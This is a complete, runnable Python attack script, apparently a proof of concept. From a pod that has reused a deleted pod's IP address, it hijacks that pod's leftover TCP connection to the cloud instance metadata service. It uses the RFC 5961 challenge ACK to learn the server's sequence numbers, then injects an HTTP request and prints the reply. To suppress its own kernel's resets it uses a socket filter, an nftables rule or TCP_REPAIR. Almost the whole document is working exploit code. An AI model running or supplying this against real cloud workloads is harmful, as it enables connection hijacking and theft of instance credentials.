# An attack from a new pod that has the address of a deleted one: it sends a request on a connection that the old pod left open.
#
# The server's end of the connection is still established. A SYN with the same ports makes the server answer with a challenge ACK
# (RFC 5961), which contains the sequence numbers that it expects. It then accepts data with these numbers as the old pod's.
#
# Arguments: the pod's address, the port of the old connection, the path to request, and how the thief keeps its own kernel from
# answering the server with a reset: "filter" (a connecting socket with a filter that drops everything), "drop" (no socket, and a
# firewall rule that drops resets) or "repair" (the same, then a socket that is put into the established state with the server's
# sequence numbers, so that it looks like the client's end of the connection).
import ctypes
import re
import socket
import struct
import subprocess
import sys
import time

address, port, line, way = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
V6 = ":" in address
if V6:
    FAMILY, ETHERTYPE, METADATA, GATEWAY = socket.AF_INET6, 0x86DD, "fd00:ec2::254", "fe80::1"
else:
    FAMILY, ETHERTYPE, METADATA, GATEWAY = socket.AF_INET, 0x0800, "169.254.169.254", "169.254.1.1"
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16

wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHERTYPE))
wire.bind(("eth0", 0))
wire.settimeout(0.1)


def gateway():
    command = ["ip", "neigh", "show", GATEWAY, "dev", "eth0"]
    row = subprocess.run(command, capture_output=True, text=True, check=True).stdout.split()
    if "lladdr" not in row:
        raise SystemExit("no gateway in the neighbour table")
    return bytes.fromhex(row[row.index("lladdr") + 1].replace(":", ""))


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(int.from_bytes(data[i:i + 2], "big") for i in range(0, len(data), 2))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total & 0xFFFF).to_bytes(2, "big")


def frame(flags, seq, ack, data=b""):
    ends = socket.inet_pton(FAMILY, address) + socket.inet_pton(FAMILY, METADATA)
    tcp = struct.pack("!HHIIBBHHH", port, 80, seq, ack, 0x50, flags, 64240, 0, 0) + data
    # The pseudo headers of the two families differ only in zeros, which do not change the checksum.
    tcp = tcp[:16] + checksum(ends + struct.pack("!HH", 6, len(tcp)) + tcp) + tcp[18:]
    if V6:
        ip = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + ends
    else:
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + ends
        ip = ip[:10] + checksum(ip) + ip[12:]
    return ROUTER + wire.getsockname()[4] + struct.pack("!H", ETHERTYPE) + ip + tcp


def segment(packet):
    """The TCP segment in a frame; empty if there is none."""
    ip = packet[14:]
    if V6:
        return ip[40:40 + int.from_bytes(ip[4:6], "big")] if ip[6] == 6 else b""
    return ip[(ip[0] & 15) * 4:int.from_bytes(ip[2:4], "big")] if ip[9] == 6 else b""


def whole(answer):
    head, _, body = answer.partition(b"\r\n\r\n")
    length = re.search(rb"(?i)\r\ncontent-length: *(\d+)", head)
    return length is not None and len(body) >= int(length[1])


def restored(seq, ack):
    """A socket that continues the old pod's connection."""
    repair, queue, queue_seq, window = 19, 20, 21, 29
    other = socket.socket(FAMILY)
    other.setsockopt(socket.IPPROTO_TCP, repair, 1)
    other.bind((address, port))
    for which, number in ((2, ack), (1, seq)):
        other.setsockopt(socket.IPPROTO_TCP, queue, which)
        other.setsockopt(socket.IPPROTO_TCP, queue_seq, struct.pack("I", number))
    other.connect((METADATA, 80))
    other.setsockopt(socket.IPPROTO_TCP, window, struct.pack("5I", seq, 65535, 65535, 65535, seq))
    # Ends repair mode without the window probe that the server would notice.
    other.setsockopt(socket.IPPROTO_TCP, repair, -1)
    return other


ROUTER = gateway()
if way == "filter":
    mute = socket.socket(FAMILY)
    deny = ctypes.create_string_buffer(struct.pack("HBBI", 0x06, 0, 0, 0))
    mute.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HxxxxxxQ", 1, ctypes.addressof(deny)))
    mute.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    mute.bind((address, port))
    mute.setblocking(False)
    mute.connect_ex((METADATA, 80))
else:
    rules = "table inet mute { chain out { type filter hook output priority 0; tcp flags & rst == rst drop; }; }"
    subprocess.run(["nft", "-f", "-"], input=rules.encode(), check=True)
    wire.send(frame(SYN, 1_000_000, 0))

end = time.monotonic() + 5
said, injected = b"", False
while time.monotonic() < end:
    try:
        packet, source = wire.recvfrom(65536)
    except TimeoutError:
        continue
    tcp = segment(packet)
    if source[2] == socket.PACKET_OUTGOING or not tcp:
        continue
    sport, dport, seq, ack, offset, flags = struct.unpack("!HHIIBB", tcp[:14])
    if (sport, dport) != (80, port):
        continue
    said += tcp[(offset >> 4) * 4:]
    if flags & (RST | FIN) or whole(said):
        break
    if not injected and flags & ACK:
        if flags & SYN:
            print("FRESH: the old connection is gone, the server has opened a new one")
            break
        host = f"[{METADATA}]" if V6 else METADATA
        request = f"GET {line} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
        injected = True
        if way == "repair":
            kept = restored(seq, ack)
            kept.send(request)
        else:
            wire.send(frame(PSH | ACK, ack, seq, request))
print("INJECTED" if injected else "NOT INJECTED")
print(said.decode(errors="replace"))
